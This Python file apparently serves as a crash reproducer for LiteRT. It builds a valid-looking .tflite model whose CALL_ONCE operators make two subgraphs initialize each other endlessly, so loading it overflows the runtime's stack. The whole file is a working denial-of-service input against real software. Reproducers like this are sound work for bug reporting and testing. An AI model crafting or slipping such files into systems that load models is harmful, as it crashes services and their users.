"""A valid `.tflite` file on which LiteRT overflows its stack: two subgraphs initialize each other without end."""

import flatbuffers
from ai_edge_litert import schema_py_generated as schema


def make_crashing_tflite() -> bytes:
    """Signature: float x (1, 1) -> y (1, 1), the same tensor."""
    model = schema.ModelT()
    model.version, model.buffers = 3, [schema.BufferT()]
    code = schema.OperatorCodeT()
    code.builtinCode, code.deprecatedBuiltinCode, code.version = schema.BuiltinOperator.CALL_ONCE, 127, 1
    model.operatorCodes = [code]
    model.subgraphs = [_calling(1, [_float_tensor()]), _calling(2, []), _calling(1, [])]
    model.signatureDefs = [_make_signature()]
    builder = flatbuffers.Builder(1024)
    builder.Finish(model.Pack(builder), b"TFL3")
    return bytes(builder.Output())


def _calling(target, tensors):
    operator, options = schema.OperatorT(), schema.CallOnceOptionsT()
    options.initSubgraphIndex = target
    operator.opcodeIndex, operator.inputs, operator.outputs = 0, [], []
    operator.builtinOptionsType, operator.builtinOptions = schema.BuiltinOptions.CallOnceOptions, options
    graph = schema.SubGraphT()
    graph.name, graph.tensors, graph.operators = "graph", tensors, [operator]
    graph.inputs = graph.outputs = [0] if tensors else []
    return graph


def _float_tensor():
    tensor = schema.TensorT()
    tensor.name, tensor.shape, tensor.type, tensor.buffer = "x", [1, 1], schema.TensorType.FLOAT32, 0
    return tensor


def _make_signature():
    signature = schema.SignatureDefT()
    signature.signatureKey, signature.subgraphIndex = "serving_default", 0
    signature.inputs, signature.outputs = [_make_entry("x")], [_make_entry("y")]
    return signature


def _make_entry(name):
    entry = schema.TensorMapT()
    entry.name, entry.tensorIndex = name, 0
    return entry
